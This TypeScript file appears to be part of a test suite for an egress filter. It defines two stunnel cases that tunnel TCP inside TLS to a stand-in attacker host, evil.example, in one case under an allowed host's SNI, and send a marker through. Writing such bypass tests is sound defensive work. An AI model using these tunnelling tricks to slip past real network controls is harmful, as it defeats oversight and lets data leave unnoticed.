/** stunnel(8): any TCP in TLS, under a name that is allowed, to an address that is not. */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Attack } from "../case.ts";
import { catcherPort } from "./attacker.ts";
import { deliver, nameless, toolCase, withClient, type Ends } from "./tool.ts";

const localPort = 2203;

function configure({ attacker, name }: Ends, end: "server" | "client", lines: readonly string[]): string {
  const path = join(attacker.directory(name), `${end}.conf`);
  writeFileSync(path, ["foreground = yes", "pid =", "[tunnel]", ...lines, ""].join("\n"));
  return path;
}

function stunnel(
  n: number,
  how: string,
  port: number,
  sni: string,
  prepare?: (ends: Ends) => Promise<unknown>,
): Attack {
  return toolCase({
    variant: `stunnel: ${how}`,
    n,
    server: async (ends) => {
      const { attacker, job, address } = ends;
      const { keyFile, certFile } = await job.lab.internet.call("certificate", { name: "evil.example" });
      const lines = [
        ...[`accept = ${address}:${port}`, `connect = 127.0.0.1:${catcherPort}`],
        ...[`cert = ${certFile}`, `key = ${keyFile}`],
      ];
      await attacker.spawn("stunnel4", [configure(ends, "server", lines)], /Configuration successful/);
    },
    client: async (ends) => {
      const { job, address, marker } = ends;
      await prepare?.(ends);
      const lines = [
        ...["client = yes", `accept = 127.0.0.1:${localPort}`, `connect = ${address}:${port}`],
        ...(sni === "" ? [] : [`sni = ${sni}`]),
      ];
      await withClient(ends, "stunnel4", [configure(ends, "client", lines)], /Configuration successful/, () =>
        deliver(ends, () => job.stream("127.0.0.1", localPort, `${marker}\n`)),
      );
    },
    ...nameless(n, port, "tcp"),
  });
}

export const stunnelCases: Attack[] = [
  stunnel(142, "as the manual says, without a name", 443, ""),
  stunnel(143, "the name of an allowed host, just resolved, to its own address", 443, "allowed.example", ({ job }) =>
    job.resolve("allowed.example"),
  ),
];
